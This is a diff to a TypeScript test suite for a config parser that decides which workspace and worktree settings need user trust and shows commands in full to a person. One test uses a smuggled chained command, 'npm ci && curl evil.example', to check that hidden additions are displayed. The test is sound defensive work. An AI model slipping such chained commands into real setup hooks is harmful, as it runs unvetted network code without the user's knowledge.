@@ -8,7 +8,8 @@ const TOKEN = "a".repeat(64);
 
 function read(settings: unknown) {
   const { config, problems } = parseConfig(JSON.stringify(settings), "test.yaml");
-  if (!config || problems.length > 0) throw new Error(problems.map(({ text }) => text).join("\n"));
+  if (!config || problems.length > 0)
+    throw new Error(problems.map(({ text }) => text.en).join("\n"));
   return config;
 }
 
@@ -49,6 +50,12 @@ test.each<[string, unknown, string]>([
   ["a late stop", { interrupt: { hardStopAfter_ms: 0 } }, "stop interrupt.hardStopAfter_ms"],
   ["more output", { agent: { maxSpool_bytes: 1_073_741_825 } }, "protection agent.maxSpool_bytes"],
   ["a quieter log", { log: { level: "warn" } }, "protection log.level"],
+  ["a command for worktrees", { workspace: { setup: "npm ci" } }, "workspace workspace.setup"],
+  ["a check before merges", { workspace: { check: "npm test" } }, "workspace workspace.check"],
+  ["copies of ignored files", { workspace: { copy: [".env"] } }, "workspace workspace.copy .env"],
+  ["another place for worktrees", { workspace: { root: "/x" } }, "workspace workspace.root"],
+  ["shared directories", { workspace: { isolation: "none" } }, "protection workspace.isolation"],
+  ["a role without worktree", { roles: [{ id: "research", isolation: "none" }] }, "role research"],
   ["a shorter history", { history: { keep_days: 89 } }, "protection history.keep_days"],
 ])("%s needs trust", (_name, settings, expected) => {
   expect(namesOf(settings)).toEqual([expected]);
@@ -56,6 +63,9 @@ test.each<[string, unknown, string]>([
 
 test.each<[string, unknown]>([
   ["language, limits and prices", { locale: "en", agent: { runner: "cursor", maxConcurrent: 3 } }],
+  ["worktrees for all", { workspace: { isolation: "worktree" } }],
+  ["a role with worktrees", { roles: [{ id: "research", isolation: "worktree" }] }],
+  ["smaller limits, kept longer", { workspace: { maxTotal_mb: 1, keepRefs_days: 91 } }],
   ["a port", { dashboard: { port: 0 } }],
   ["a server that is disabled", { mcpServers: { x: { command: "sh", disabled: true } } }],
   ["a role that is disabled", { roles: [{ id: "research", disabled: true }] }],
@@ -162,4 +172,25 @@ test("a person sees where an argument ends, and sees invisible characters", () =
     String.raw`$ sh -c 'a b' 'it'\''s' '\u{202E}\u{200B}\u{1B}[2J'`,
     "env.A: b c",
   ]);
+});
+
+test("the person sees the whole command of a worktree", () => {
+  const [power] = powersOf(read({ workspace: { setup: "npm ci && curl evil.example" } }));
+
+  expect(power && describePower(power)).toEqual(["$ sh -c 'npm ci && curl evil.example'"]);
+});
+
+test("limits of an untrusted file apply where they are stricter than the defaults", () => {
+  const config = read({
+    workspace: { maxTotal_mb: 0, maxFile_mb: 2, keepOpen_days: 1, keepRefs_days: 200 },
+  });
+
+  const { workspace } = withoutPowers(config, () => false);
+
+  expect(workspace).toMatchObject({
+    maxTotal_mb: 20_480,
+    maxFile_mb: 2,
+    keepOpen_days: 14,
+    keepRefs_days: 200,
+  });
 });
